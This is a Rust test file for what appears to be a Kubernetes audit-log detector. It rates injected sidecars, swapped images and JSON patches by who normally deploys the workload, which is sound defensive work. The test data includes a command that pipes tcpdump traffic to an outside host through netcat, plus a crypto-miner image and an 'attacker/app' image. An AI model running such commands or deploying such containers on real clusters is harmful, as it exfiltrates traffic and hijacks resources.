use super::*;

#[test]
fn added_containers_are_rated_by_deployer() {
    let patch = |command: &[&str]| {
        request("patch", "deployments", "shop", "web")
            .uri("/apis/apps/v1/namespaces/shop/deployments/web?fieldManager=kubectl-patch")
            .requested(Facts::Workload(of([container(
                "log-agent",
                "x/agent",
                command,
            )])))
    };
    let sidecar = |severity: &str| vec![format!("Persistence:SidecarInjected {severity}")];
    let found = |by: &str, event: Request| found(&mut deployed_by(by), event);
    assert_eq!(found(ARGO, patch(&[])), sidecar("5.0"));
    assert_eq!(found("bob", patch(&[])), sidecar("3.0"));
    assert!(found("alice", patch(&[])).is_empty());
    assert!(found(ARGO, patch(&[]).user(ARGO)).is_empty());
    assert_eq!(found(ARGO, patch(&[]).user(ETL)), sidecar("3.0"));
    // A controller's writes do not make it the deployer.
    let controller = "system:serviceaccount:kube-system:deployment-controller";
    assert_eq!(found(controller, patch(&[])), sidecar("5.0"));
    assert_eq!(
        found(
            "alice",
            patch(&["sh", "-c", "tcpdump -w - | nc 203.0.113.9 9000"])
        ),
        [
            "Execution:SuspiciousWorkloadCommand 5.0",
            "Persistence:SidecarInjected 6.0"
        ]
    );
    let applied = patch(&[]).uri("/x?fieldManager=kubectl-client-side-apply");
    let mut unknown =
        Harness::<SuspiciousWorkloads>::new().pod_spec("deployments", "shop", "web", app(&[]));
    assert_eq!(
        shown(&unknown.audit_event(applied).unwrap()),
        sidecar("3.0")
    );
    // The known state may only be what single patches named.
    let whole = patch(&[]).requested(Facts::Workload(of([
        container("app", "nginx", &[]),
        container("log-agent", "x/agent", &[]),
    ])));
    assert_eq!(found(ARGO, whole), sidecar("3.0"));
    // The previous state is unknown.
    assert!(judge(patch(&[])).is_empty());
}

#[test]
fn replaced_images_are_rated_by_deployer() {
    let patch = |image: &str| {
        request("patch", "deployments", "shop", "web")
            .uri("/x?fieldManager=kubectl-set")
            .requested(Facts::Workload(of([container("app", image, &[])])))
    };
    let swapped = |severity: &str| vec![format!("Execution:ImageSwapped {severity}")];
    let found = |by: &str, event: Request| found(&mut deployed_by(by), event);
    assert_eq!(found(ARGO, patch("attacker/app")), swapped("5.0"));
    assert_eq!(
        found(ARGO, patch("mirror.example.com/nginx")),
        swapped("3.0")
    );
    assert_eq!(found("bob", patch("attacker/app")), swapped("3.0"));
    assert!(found("alice", patch("attacker/app")).is_empty());
    assert!(found(ARGO, patch("nginx:1.30")).is_empty());
}

#[test]
fn json_patches_are_judged_by_their_operations() {
    let line = |patch: &str| {
        format!(
            r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"{}","stage":"ResponseComplete","requestURI":"/apis/apps/v1/namespaces/shop/deployments/web","verb":"patch","user":{{"username":"mallory"}},"sourceIPs":["192.0.2.1"],"objectRef":{{"resource":"deployments","namespace":"shop","name":"web","apiGroup":"apps","apiVersion":"v1"}},"responseStatus":{{"code":200}},"requestObject":{patch},"responseObject":{{"kind":"Deployment","apiVersion":"apps/v1","metadata":{{"name":"web"}},"spec":{{"template":{{"spec":{{"containers":[{{"name":"app","image":"nginx"}},{{"name":"x","image":"metal3d/xmrig"}}]}}}}}}}},"requestReceivedTimestamp":"2026-01-01T00:00:00.000000Z","stageTimestamp":"2026-01-01T00:00:00.000000Z"}}"#,
            patch.len()
        )
    };
    let adds = r#"[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"x","image":"metal3d/xmrig"}}]"#;
    let labels = r#"[{"op":"add","path":"/metadata/labels/a","value":"b"}]"#;
    let found = deployed_by(ARGO).audit_line(&line(adds)).unwrap();
    assert_eq!(
        shown(&found),
        ["Impact:CryptoMiner 8.0", "Persistence:SidecarInjected 6.0"]
    );
    assert_eq!(
        found[0].evidence("requestObject.spec.template.spec.containers[0].image"),
        Some("metal3d/xmrig")
    );
    let mut unknown = Harness::<SuspiciousWorkloads>::new();
    let found = unknown.audit_line(&line(adds)).unwrap();
    assert_eq!(
        shown(&found),
        ["Impact:CryptoMiner 8.0", "Persistence:SidecarInjected 6.0"]
    );
    // An appended container is new, even if the previous state is unknown.
    let by = |user: &str, patch: &str| {
        let mut unknown = Harness::<SuspiciousWorkloads>::new();
        let line = line(patch).replace("mallory", user);
        shown(&unknown.audit_line(&line).unwrap())
    };
    let harmless = adds.replace("metal3d/xmrig", "x/agent");
    assert_eq!(
        by("mallory", &harmless),
        ["Persistence:SidecarInjected 5.0"]
    );
    assert_eq!(by(ETL, &harmless), ["Persistence:SidecarInjected 3.0"]);
    let replaces = harmless
        .replace("\"add\"", "\"replace\"")
        .replace("containers/-", "containers/0");
    assert!(by("mallory", &replaces).is_empty());
    let mut unknown = Harness::<SuspiciousWorkloads>::new();
    assert!(unknown.audit_line(&line(labels)).unwrap().is_empty());
}
